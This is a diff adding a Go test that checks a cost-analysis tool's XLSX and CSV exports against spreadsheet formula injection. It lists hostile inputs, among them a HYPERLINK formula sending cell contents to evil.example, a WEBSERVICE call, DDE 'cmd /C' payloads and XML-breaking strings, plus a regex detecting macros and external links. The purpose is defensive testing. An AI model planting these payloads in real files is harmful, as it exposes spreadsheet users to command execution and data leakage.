@@ -1,0 +1,212 @@
+package main
+
+import (
+	"archive/zip"
+	"encoding/csv"
+	"fmt"
+	"io"
+	"os"
+	"path/filepath"
+	"regexp"
+	"strconv"
+	"strings"
+	"testing"
+
+	"github.com/xuri/excelize/v2"
+)
+
+// hostile are texts that a spreadsheet would act upon if it took them for more
+// than a text. Each holds the word EVIL.
+var hostile = []string{
+	`=HYPERLINK("http://evil.example/EVIL?"&A1,"click")`,
+	`+EVIL+cmd|' /C calc'!A0`,
+	`-2+3+cmd|' /C EVIL'!A0`,
+	`@SUM(1+1)*EVIL`,
+	"\t=EVIL()",
+	" =WEBSERVICE(\"http://evil.example/EVIL\")",
+	`http://evil.example/EVIL`,
+	`file:///etc/EVIL`,
+	`EVIL]'!A1+HYPERLINK("x")&'[x`,
+	`&A&"EVIL,Bold"&P`,
+	`</t></is></c><c r="Z1"><f>EVIL()</f></c>`,
+	`"&EVIL()&"`,
+}
+
+// hostileFiles writes a case and a parameter file into a folder, with one text
+// at every place that takes any.
+func hostileFiles(t *testing.T, dir, text string) {
+	t.Helper()
+	q := strconv.Quote(text)
+	files := map[string]string{
+		"p.yaml": `ipta: parameters/1
+name: Q
+title: {en: Q, nl: Q}
+price_level: 2024
+discounting: {rate: 3%}
+horizon: 5
+sources: [{for: discounting.rate, publisher: Q, title: Q, url: Q, page: Q, via: Q}]
+stakeholders:
+  municipality: {label: {en: Q, nl: Q}}
+domains:
+  housing: {label: {en: Q, nl: Q}}
+unit_costs:
+  coach:
+    label: {en: Q, nl: Q}
+    domain: housing
+    unit: {en: Q, nl: Q}
+    value: 70
+    price_year: 2024
+    borne_by: {municipality: 100%}
+    source: {publisher: Q, title: Q, url: Q, page: Q, via: Q}
+    note: {en: Q, nl: Q}
+  eviction:
+    label: {en: Q, nl: Q}
+    domain: housing
+    unit: event
+    value: 9000
+    price_year: 2024
+    borne_by: {municipality: 100%}
+    source: {assumption: Q}
+`,
+		"c.yaml": `ipta: case/1
+id: sam
+title: Q
+municipality: Q
+start: 2024
+interventions:
+  - {unit_cost: coach, quantity: 9, note: Q}
+  - {label: Q, value: 5, unit: Q, borne_by: {municipality: 100%}, source: {publisher: Q, title: Q, url: Q}}
+avoided:
+  - {unit_cost: eviction, years: 1-2, evidence: {grade: 4, text: Q}}
+unpriced:
+  - {label: Q, direction: +, for: municipality}
+allow:
+  - {check: sure-without, because: Q, by: Q}
+`,
+		"analysis.yaml": "ipta: analysis/1\ntitle: Q\nselection: Q\n",
+	}
+	for name, content := range files {
+		if err := os.WriteFile(filepath.Join(dir, name), []byte(strings.ReplaceAll(content, "Q", q)), 0o600); err != nil {
+			t.Fatal(err)
+		}
+	}
+}
+
+// TestHostileText wants no text of a file to become a formula, a link or a
+// macro in a workbook or in CSV.
+func TestHostileText(t *testing.T) {
+	t.Parallel()
+	for i, text := range hostile {
+		t.Run(fmt.Sprint(i), func(t *testing.T) {
+			t.Parallel()
+			dir := t.TempDir()
+			hostileFiles(t, dir, text)
+			for name, args := range map[string]string{
+				"result.xlsx": "calc . -p p.yaml -q -o result.xlsx",
+				"dutch.xlsx":  "calc . -p p.yaml -q -o dutch.xlsx --lang nl",
+				"list.xlsx":   "params export -p p.yaml -o list.xlsx",
+				"result.csv":  "calc . -p p.yaml -q -o result.csv",
+				"dutch.csv":   "calc . -p p.yaml -q -o dutch.csv --csv-excel nl",
+				"list.csv":    "params export -p p.yaml -o list.csv",
+			} {
+				if output, status := ipta(t, dir, strings.Fields(args)...); status != statusDone {
+					t.Fatalf("ipta %s: exit status %d\n%s", args, status, output)
+				}
+				if filepath.Ext(name) == ".csv" {
+					harmlessCSV(t, filepath.Join(dir, name))
+				} else {
+					harmlessWorkbook(t, filepath.Join(dir, name))
+				}
+			}
+		})
+	}
+}
+
+// harmlessCSV wants every field to be a number or a text that begins like one.
+func harmlessCSV(t *testing.T, name string) {
+	t.Helper()
+	content, err := os.ReadFile(name)
+	if err != nil {
+		t.Fatal(err)
+	}
+	text := strings.TrimPrefix(string(content), "\ufeff")
+	r := csv.NewReader(strings.NewReader(text))
+	if strings.HasPrefix(text, "case;") {
+		r.Comma = ';'
+	}
+	records, err := r.ReadAll()
+	if err != nil {
+		t.Fatalf("%s: %v", name, err)
+	}
+	seen := false
+	for _, record := range records {
+		for _, field := range record {
+			seen = seen || strings.Contains(field, "EVIL")
+			_, err := strconv.ParseFloat(strings.Replace(field, ",", ".", 1), 64)
+			if err != nil && field != "" && strings.ContainsAny(field[:1], "=+-@\t\r\n") {
+				t.Errorf("%s: the field %q is a formula", filepath.Base(name), field)
+			}
+		}
+	}
+	if !seen {
+		t.Errorf("%s does not hold the text", filepath.Base(name))
+	}
+}
+
+// What of a workbook's parts acts: links, formulas, and names of others' files.
+var (
+	acting   = regexp.MustCompile(`(?i)<hyperlink|TargetMode="External"|externalLink|vbaProject|oleObject|ddeLink|<webPr|<customUI`)
+	formulas = regexp.MustCompile(`(?s)<(f|c:f|formula1|formula2|definedName)(?: [^>]*)?>(.*?)</`)
+	// quotedPart is a name of a sheet or a text inside a formula.
+	quotedPart = regexp.MustCompile(`'(?:[^']|'')*'|"(?:[^"]|"")*"`)
+)
+
+// harmlessWorkbook wants no part of a workbook to act but formulas of ours, and
+// excelize, which writes it, to find no links in it either.
+func harmlessWorkbook(t *testing.T, name string) {
+	t.Helper()
+	z, err := zip.OpenReader(name)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer z.Close()
+	seen := false
+	for _, part := range z.File {
+		in, err := part.Open()
+		if err != nil {
+			t.Fatal(err)
+		}
+		content, err := io.ReadAll(in)
+		if err != nil {
+			t.Fatal(err)
+		}
+		seen = seen || strings.Contains(string(content), "EVIL")
+		if found := acting.Find(withoutTexts(content)); found != nil || acting.MatchString(part.Name) {
+			t.Errorf("%s: %s holds %q", filepath.Base(name), part.Name, found)
+		}
+		for _, m := range formulas.FindAllSubmatch(content, -1) {
+			formula := strings.NewReplacer("&#34;", `"`, "&#39;", "'", "&quot;", `"`, "&apos;", "'", "&amp;", "&").Replace(string(m[2]))
+			if bare := quotedPart.ReplaceAllString(formula, ""); strings.Contains(bare, "EVIL") || strings.Contains(bare, "HYPERLINK") || strings.Contains(bare, "|") {
+				t.Errorf("%s: %s holds the formula %s", filepath.Base(name), part.Name, formula)
+			}
+		}
+	}
+	if !seen {
+		t.Errorf("%s does not hold the text", filepath.Base(name))
+	}
+	f, err := excelize.OpenFile(name)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer f.Close()
+	for _, sheet := range f.GetSheetList() {
+		if links, err := f.GetHyperLinkCells(sheet, ""); err != nil || len(links) > 0 {
+			t.Errorf("%s: %s holds the links %v, %v", filepath.Base(name), sheet, links, err)
+		}
+	}
+}
+
+// withoutTexts returns the XML of a part without what stands between its tags.
+func withoutTexts(content []byte) []byte {
+	return regexp.MustCompile(`>[^<]*<`).ReplaceAll(content, []byte("><"))
+}
